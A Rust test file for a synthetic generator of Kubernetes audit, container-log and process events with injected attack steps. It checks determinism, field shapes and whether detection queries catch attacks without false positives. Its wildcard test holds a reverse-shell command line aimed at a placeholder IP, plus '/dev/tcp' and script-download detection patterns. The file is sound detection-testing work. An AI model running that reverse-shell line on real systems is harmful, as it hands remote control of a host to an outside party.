//! Tests of the whole stream: determinism, time order, the mix, event shapes and sizes, and
//! that each attack step is found by its query and nothing benign is.

use std::collections::HashMap;

use chrono::{DateTime, TimeZone, Utc};
use serde_json::Value;

use super::attacks::oracle::Cond;
use super::attacks::{Attack, ATTACKS};
use super::*;

pub(super) fn config(seed: u64, attacks: bool) -> GenConfig {
    GenConfig {
        seed,
        start: Utc
            .with_ymd_and_hms(2024, 5, 1, 10, 0, 0)
            .single()
            .expect("valid date"),
        events_per_second: 200.0,
        attacks,
    }
}

fn take(seed: u64, attacks: bool, n: usize) -> Vec<Generated> {
    Generator::new(config(seed, attacks)).take(n).collect()
}

/// The record's event time, as the normalizer would read it.
fn time_of(record: &Generated) -> DateTime<Utc> {
    let text = match record {
        Generated::K8sAudit(event) => event["requestReceivedTimestamp"].as_str(),
        Generated::Ndjson { line, .. } => line["@timestamp"].as_str(),
    };
    let text = text.expect("every record has a time");
    DateTime::parse_from_rfc3339(text)
        .expect("RFC 3339")
        .with_timezone(&Utc)
}

/// Values at a dotted path, descending into arrays (as the store indexes them).
pub(super) fn values_at<'a>(value: &'a Value, path: &str, out: &mut Vec<&'a Value>) {
    if let Value::Array(items) = value {
        for item in items {
            values_at(item, path, out);
        }
        return;
    }
    if path.is_empty() {
        out.push(value);
        return;
    }
    let (head, rest) = path.split_once('.').unwrap_or((path, ""));
    if let Some(inner) = value.get(head) {
        values_at(inner, rest, out);
    }
}

/// The field as the normalizer maps it (see the normalize crate's documented mapping):
/// ECS names for the audit fields the queries use, `k8s.audit.*` for the whole event.
fn field_values(record: &Generated, field: &str) -> Vec<String> {
    let mut found = Vec::new();
    match record {
        Generated::K8sAudit(event) => {
            let source = match field {
                "event.action" => "verb",
                "user.name" => "user.username",
                "orchestrator.resource.type" => "objectRef.resource",
                "orchestrator.resource.subresource" => "objectRef.subresource",
                "orchestrator.namespace" => "objectRef.namespace",
                "http.response.status_code" => "responseStatus.code",
                other => other.strip_prefix("k8s.audit.").unwrap_or("\u{0}"),
            };
            if field == "source.ip" {
                found.extend(event["sourceIPs"].get(0));
            } else {
                values_at(event, source, &mut found);
            }
        }
        Generated::Ndjson { line, .. } => values_at(line, field, &mut found),
    }
    found
        .into_iter()
        .map(|v| match v {
            Value::String(s) => s.clone(),
            other => other.to_string(),
        })
        .collect()
}

/// `*`-wildcard match of the whole text.
pub(super) fn wildcard(pattern: &str, text: &str) -> bool {
    let parts: Vec<&str> = pattern.split('*').collect();
    if parts.len() == 1 {
        return pattern == text;
    }
    let (first, last) = (parts[0], parts[parts.len() - 1]);
    if !text.starts_with(first) || !text[first.len()..].ends_with(last) {
        return false;
    }
    let mut rest = &text[first.len()..text.len() - last.len()];
    for middle in &parts[1..parts.len() - 1] {
        match rest.find(middle) {
            Some(at) => rest = &rest[at + middle.len()..],
            None => return false,
        }
    }
    true
}

fn matches(record: &Generated, conditions: &[Cond]) -> bool {
    conditions.iter().all(|cond| {
        let hit = field_values(record, cond.field)
            .iter()
            .any(|v| wildcard(cond.value, v));
        hit != cond.negated
    })
}

/// The query text for conditions, escaping what the query language treats specially.
fn render(conditions: &[Cond]) -> String {
    let mut clauses = Vec::new();
    for cond in conditions {
        let mut value = String::new();
        for c in cond.value.chars() {
            if matches!(
                c,
                '\\' | ':' | '/' | '(' | ')' | '"' | ' ' | '+' | '|' | '?'
            ) {
                value.push('\\');
            }
            value.push(c);
        }
        let negation = if cond.negated { "NOT " } else { "" };
        clauses.push(format!("{negation}{}:{value}", cond.field));
    }
    clauses.join(" AND ")
}

#[test]
fn same_seed_gives_the_same_stream_and_another_seed_does_not() {
    let first = take(42, true, 3_000);
    assert_eq!(first, take(42, true, 3_000));
    assert_ne!(first, take(43, true, 3_000));
}

#[test]
fn timestamps_start_at_start_and_never_go_back() {
    let cfg = config(5, true);
    let records: Vec<Generated> = Generator::new(cfg.clone()).take(20_000).collect();
    assert_eq!(time_of(&records[0]), cfg.start);
    for pair in records.windows(2) {
        assert!(
            time_of(&pair[0]) <= time_of(&pair[1]),
            "{:?} then {:?}",
            pair[0],
            pair[1]
        );
    }
    // 20,000 events at 200/s of event time span about 100 s.
    let span = (time_of(&records[19_999]) - cfg.start).num_milliseconds() as f64 / 1000.0;
    assert!((90.0..110.0).contains(&span), "{span} s");
}

#[test]
fn invalid_rates_fall_back_instead_of_stalling_time() {
    for rate in [0.0, -5.0, f64::NAN, f64::INFINITY] {
        let mut cfg = config(1, false);
        cfg.events_per_second = rate;
        let records: Vec<Generated> = Generator::new(cfg.clone()).take(1_001).collect();
        let span = (time_of(&records[1_000]) - cfg.start).num_milliseconds();
        assert!(
            (8_000..12_000).contains(&span),
            "rate {rate}: {span} ms for 1000 events"
        );
    }
}

#[test]
fn mix_matches_the_documented_shares() {
    let records = take(9, true, 20_000);
    let mut counts: HashMap<&str, usize> = HashMap::new();
    for record in &records {
        let key = match record {
            Generated::K8sAudit(_) => "audit",
            Generated::Ndjson { source, line } => {
                assert_eq!(line["event"]["dataset"].as_str(), Some(*source));
                source
            }
        };
        *counts.entry(key).or_default() += 1;
    }
    for (key, expected) in [("audit", 0.45), ("container_logs", 0.40), ("auditd", 0.15)] {
        let share = counts.get(key).copied().unwrap_or(0) as f64 / records.len() as f64;
        assert!(
            (share - expected).abs() <= 0.05,
            "{key}: {share:.3} vs {expected}"
        );
    }
}

#[test]
fn audit_events_have_the_required_fields() {
    let mut seen_verbs: HashMap<String, usize> = HashMap::new();
    let mut audit_count = 0;
    for record in take(11, true, 20_000) {
        let Generated::K8sAudit(event) = record else {
            continue;
        };
        audit_count += 1;
        assert_eq!(event["apiVersion"], "audit.k8s.io/v1", "{event}");
        assert_eq!(event["kind"], "Event");
        assert_eq!(event["stage"], "ResponseComplete");
        let audit_id = event["auditID"].as_str().expect("auditID");
        assert_eq!(audit_id.len(), 36, "{audit_id}");
        assert!(
            event["user"]["username"]
                .as_str()
                .is_some_and(|u| !u.is_empty()),
            "{event}"
        );
        assert!(event["user"]["groups"].is_array());
        assert!(event["requestURI"]
            .as_str()
            .is_some_and(|u| u.starts_with('/')));
        assert!(event["sourceIPs"][0].is_string());
        assert!(event["responseStatus"]["code"].is_u64());
        let decision = &event["annotations"]["authorization.k8s.io/decision"];
        assert!(decision == "allow" || decision == "forbid", "{event}");
        let verb = event["verb"].as_str().expect("verb").to_string();
        if let Some(object_ref) = event.get("objectRef") {
            let uri = event["requestURI"].as_str().unwrap_or_default();
            let resource = object_ref["resource"].as_str().expect("resource");
            assert!(
                uri.contains(&format!("/{resource}")),
                "{uri} lacks {resource}"
            );
        }
        if verb == "create" && event["objectRef"]["subresource"].is_null() {
            assert!(
                event["requestObject"].is_object(),
                "creates carry their body: {event}"
            );
        }
        *seen_verbs.entry(verb).or_default() += 1;
    }
    // Controllers' and kubelets' reads and status writes dominate, as in real clusters.
    let routine: usize = ["get", "list", "watch", "update", "patch"]
        .iter()
        .map(|v| seen_verbs.get(*v).copied().unwrap_or(0))
        .sum();
    assert!(routine as f64 > 0.95 * audit_count as f64, "{seen_verbs:?}");
    assert!(
        seen_verbs.get("create").copied().unwrap_or(0) > 0,
        "{seen_verbs:?}"
    );
}

#[test]
fn logs_and_processes_carry_ecs_fields() {
    let mut statuses: HashMap<String, usize> = HashMap::new();
    for record in take(12, false, 10_000) {
        let Generated::Ndjson { source, line } = record else {
            continue;
        };
        for path in [
            "@timestamp",
            "container.id",
            "container.name",
            "container.image.name",
            "container.image.tag",
            "kubernetes.namespace",
            "kubernetes.pod.name",
            "kubernetes.container.name",
            "kubernetes.node.name",
            "kubernetes.labels.app",
            "host.name",
            "event.dataset",
        ] {
            let mut found = Vec::new();
            values_at(&line, path, &mut found);
            assert!(
                found.iter().any(|v| v.is_string()),
                "{path} missing in {line}"
            );
        }
        if source == "auditd" {
            assert_eq!(line["event"]["category"][0], "process");
            for path in ["name", "executable", "command_line"] {
                assert!(
                    line["process"][path].is_string(),
                    "process.{path} in {line}"
                );
            }
            assert!(line["process"]["pid"].is_u64() && line["process"]["ppid"].is_u64());
            assert!(line["process"]["args"].is_array());
            assert!(line["process"]["parent"]["name"].is_string());
            assert!(line["process"]["user"]["name"].is_string());
        } else {
            assert!(line["log"]["level"].is_string());
            assert!(line["stream"] == "stdout" || line["stream"] == "stderr");
            let message = line["message"].as_str().expect("message");
            if line["container"]["image"]["name"] == "nginx" {
                let status = message
                    .split('"')
                    .nth(2)
                    .and_then(|s| s.split_whitespace().next());
                *statuses
                    .entry(status.expect("status").to_string())
                    .or_default() += 1;
            }
        }
    }
    let total: usize = statuses.values().sum();
    let ok = statuses.get("200").copied().unwrap_or(0);
    let errors: usize = statuses
        .iter()
        .filter(|(s, _)| s.starts_with(['4', '5']))
        .map(|(_, n)| n)
        .sum();
    assert!(ok as f64 > 0.7 * total as f64, "{statuses:?}");
    assert!(
        errors > 0 && (errors as f64) < 0.2 * total as f64,
        "{statuses:?}"
    );
}

#[test]
fn sizes_are_like_real_events() {
    let (mut audit_bytes, mut audit_n, mut message_bytes, mut message_n) = (0, 0, 0, 0);
    for record in take(13, false, 20_000) {
        match record {
            Generated::K8sAudit(event) => {
                audit_bytes += serde_json::to_string(&event).expect("serializes").len();
                audit_n += 1;
            }
            Generated::Ndjson {
                source: "container_logs",
                line,
            } => {
                message_bytes += line["message"].as_str().map_or(0, str::len);
                message_n += 1;
            }
            Generated::Ndjson { .. } => {}
        }
    }
    let audit_mean = audit_bytes / audit_n;
    let message_mean = message_bytes / message_n;
    assert!(
        (1_000..=2_000).contains(&audit_mean),
        "audit events average {audit_mean} B"
    );
    assert!(
        (150..=400).contains(&message_mean),
        "log lines average {message_mean} B"
    );
}

#[test]
fn queries_are_the_rendered_conditions() {
    let queries = attack_queries();
    assert_eq!(queries.len(), ATTACKS.len());
    for (attack, (description, query)) in ATTACKS.iter().zip(queries) {
        assert!(!description.is_empty());
        assert_eq!(*query, render(attack.conditions()), "{attack:?}");
    }
}

#[test]
fn every_attack_appears_early_when_enabled() {
    let records = take(21, true, 50_000);
    for attack in ATTACKS {
        let hits: Vec<&Generated> = records
            .iter()
            .filter(|r| matches(r, attack.conditions()))
            .collect();
        assert!(!hits.is_empty(), "{attack:?} not found");
        if attack == Attack::AnonymousSecrets {
            let codes: Vec<String> = hits
                .iter()
                .flat_map(|r| field_values(r, "http.response.status_code"))
                .collect();
            assert!(codes.contains(&"403".to_string()) && codes.contains(&"200".to_string()));
        }
    }
}

#[test]
fn no_benign_event_matches_an_attack_query() {
    for seed in [21, 22] {
        for record in take(seed, false, 50_000) {
            for attack in ATTACKS {
                assert!(
                    !matches(&record, attack.conditions()),
                    "{attack:?} matched {record:?}"
                );
            }
        }
    }
}

#[test]
fn benign_near_misses_exist() {
    // The detections are only meaningful if the benign stream has the look-alikes.
    let records = take(23, false, 50_000);
    let near_misses: [&[Cond]; 3] = [
        &[Cond {
            field: "k8s.audit.requestObject.spec.hostPID",
            value: "true",
            negated: false,
        }],
        &[Cond {
            field: "orchestrator.resource.subresource",
            value: "exec",
            negated: false,
        }],
        &[Cond {
            field: "process.name",
            value: "curl",
            negated: false,
        }],
    ];
    for conditions in near_misses {
        assert!(
            records.iter().any(|r| matches(r, conditions)),
            "{:?}",
            conditions[0]
        );
    }
}

#[test]
fn wildcard_helper_is_right() {
    assert!(wildcard("10.*", "10.0.0.1"));
    assert!(!wildcard("10.*", "198.51.100.23"));
    assert!(wildcard(
        "*/dev/tcp/*",
        "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"
    ));
    assert!(wildcard("http*.sh", "http://x/k.sh"));
    assert!(!wildcard("http*.sh", "http://x/k.shx"));
    assert!(wildcard("a*b*c", "abc") && !wildcard("a*b*c", "acb"));
}
